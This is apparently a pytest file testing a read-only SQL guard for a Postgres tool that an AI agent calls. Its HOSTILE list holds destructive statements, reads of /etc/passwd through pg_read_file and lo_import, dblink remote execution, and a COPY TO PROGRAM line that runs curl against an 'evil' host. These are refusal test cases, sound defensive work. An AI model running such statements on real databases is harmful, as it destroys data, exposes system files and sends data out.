"""The SQL guard (first line of defence) and the read-only transaction behind it (second line)."""
try:
    from tests.test_toolkit_fixtures import pgfix  # noqa: F401  (fixtures)
except ImportError:  # tests/ not a package
    from test_toolkit_fixtures import pgfix  # noqa: F401
import pytest

from toolkits.postgres.guard import check_readonly

ALLOWED = [
    "SELECT 1",
    "select count(*) from orders where status = 'paid'",
    "WITH x AS (SELECT id FROM orders) SELECT count(*) FROM x",
    "SELECT a FROM t UNION ALL SELECT b FROM u",
    "EXPLAIN SELECT * FROM orders",
    "EXPLAIN (FORMAT JSON, COSTS true) SELECT * FROM orders",
    "VALUES (1), (2)",
    "SELECT pg_sleep(0.5)",
    "SELECT current_setting('work_mem')",
    "SELECT 'DROP TABLE x; DELETE FROM y' AS harmless_text",
    "SELECT 1 /* ; DROP TABLE x */",
    "-- a leading comment\nSELECT 1",
    "SELECT $$; drop table x$$",
    "SELECT 1;",
]

HOSTILE = [
    ("SELECT 1; DROP TABLE orders", "one statement"),
    ("SELECT 1; -- harmless\n DELETE FROM orders", "one statement"),
    ("/* hi */ SELECT 1 /* a */; /* b */ UPDATE orders SET status = 'x'", "one statement"),
    ("DROP TABLE orders", "DROP"),
    ("DELETE FROM orders", "DELETE"),
    ("UPDATE orders SET status = 'x'", "UPDATE"),
    ("INSERT INTO orders (id) VALUES (1)", "INSERT"),
    ("TRUNCATE orders", "not"),
    ("CREATE TABLE x (a int)", "CREATE"),
    ("ALTER TABLE orders ADD COLUMN x int", "ALTER"),
    ("GRANT ALL ON orders TO public", "not"),
    ("VACUUM orders", "VACUUM"),
    ("SET work_mem = '1GB'", "not"),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "DELETE"),
    ("WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT count(*) FROM u", "UPDATE"),
    ("WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i", "INSERT"),
    ("COPY orders TO PROGRAM 'curl http://evil'", "COPY ... PROGRAM"),
    ("COPY (SELECT 1) TO '/tmp/x'", "COPY"),
    ("SELECT * INTO new_table FROM orders", "INTO"),
    ("SELECT * FROM orders FOR UPDATE", "FOR UPDATE"),
    ("SELECT pg_terminate_backend(123)", "pg_terminate_backend"),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "pg_cancel_backend"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
    ("SELECT lo_export(1, '/tmp/x')", "lo_export"),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
    ("SELECT set_config('default_transaction_read_only', 'off', false)", "set_config"),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", "dblink"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "dblink_exec"),
    ("SELECT nextval('orders_id_seq')", "nextval"),
    ("SELECT setval('orders_id_seq', 1)", "setval"),
    ("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
    ("SELECT pg_try_advisory_xact_lock(1)", "pg_try_advisory"),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "pg_create_logical_replication_slot"),
    ("SELECT txid_current()", "txid_current"),
    ("SELECT pg_sleep(100)", "pg_sleep"),
    ("SELECT pg_sleep(x) FROM t", "pg_sleep"),
    ("SELECT query_to_xml('DELETE FROM orders', true, false, '')", "query_to_xml"),
    ("SELECT pg_catalog.pg_terminate_backend(1)", "pg_terminate_backend"),
    ("SELECT * FROM orders WHERE id = (SELECT pg_terminate_backend(1))", "pg_terminate_backend"),
    ("EXPLAIN ANALYZE SELECT * FROM orders", "EXPLAIN ANALYZE"),
    ("EXPLAIN (ANALYZE, BUFFERS) SELECT 1", "EXPLAIN ANALYZE"),
    ("EXPLAIN DELETE FROM orders", "DELETE"),
    ("/* x */ EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN ANALYZE"),
    ("LOCK TABLE orders", "LOCK"),
    ("CALL do_things()", "CALL"),
    ("DO $$ BEGIN DELETE FROM orders; END $$", "DO"),
    ("PREPARE p AS DELETE FROM orders", "PREPARE"),
    ("NOTIFY channel", "NOTIFY"),
    ("REFRESH MATERIALIZED VIEW mv", "REFRESH"),
    ("SELECT * FROM orders FOR SHARE", "FOR UPDATE/SHARE"),
    ("SELECT 1 UNION SELECT pg_cancel_backend(1)", "pg_cancel_backend"),
    ("SELECT * FROM ROWS FROM (pg_ls_dir('.'))", "pg_ls_dir"),
    ('SELECT "pg_terminate_backend"(1)', "pg_terminate_backend"),
    ("SELECT CASE WHEN true THEN pg_reload_conf() END", "pg_reload_conf"),
    ("SELECT pg_stat_statements_reset()", "pg_stat_statements_reset"),
    ("SELECT 1 \\; DROP TABLE x", "one statement"),
    ("SELECT FROM WHERE )(", "could not be parsed"),
    ("", "empty"),
    ("   ", "empty"),
]


@pytest.mark.parametrize("sql", ALLOWED)
def test_guard_allows_read_only(sql):
    ok, reason = check_readonly(sql)
    assert ok, reason


@pytest.mark.parametrize("sql,needle", HOSTILE)
def test_guard_refuses_hostile(sql, needle):
    ok, reason = check_readonly(sql)
    assert not ok
    assert needle.lower() in reason.lower(), reason


def test_refusal_is_a_clear_tool_result_not_an_exception(pgfix):
    reg, ctx = pgfix["reg"], pgfix["ctx"]
    res = reg.call("run_sql", ctx, "DELETE FROM orders")
    assert not res.ok
    assert "refused" in res.error and "Example input" in res.error


def test_user_function_is_refused_by_the_server_side_allow_list(pgfix):
    """The parser cannot see inside a user function; the allow-list resolved in pg_proc refuses it by default."""
    reg, ctx = pgfix["reg"], pgfix["ctx"]
    assert check_readonly("SELECT tk_bump()")[0]
    res = reg.call("run_sql", ctx, "SELECT tk_bump()")
    assert not res.ok
    assert "user-defined function public.tk_bump()" in res.error and "DBCOPILOT_ALLOW_FUNCTIONS" in res.error


def test_read_only_transaction_is_the_next_line(pgfix):
    """Opted in, a user function that writes still meets the READ ONLY transaction."""
    import dataclasses

    import psycopg

    reg = pgfix["reg"]
    ctx = dataclasses.replace(pgfix["ctx"], allow_functions=("tk_bump",))
    res = reg.call("run_sql", ctx, "SELECT tk_bump()")
    assert not res.ok
    assert "read-only" in res.error
    with psycopg.connect(pgfix["dsn"]) as conn:
        assert conn.execute("SELECT count(*) FROM bumps").fetchone()[0] == 0
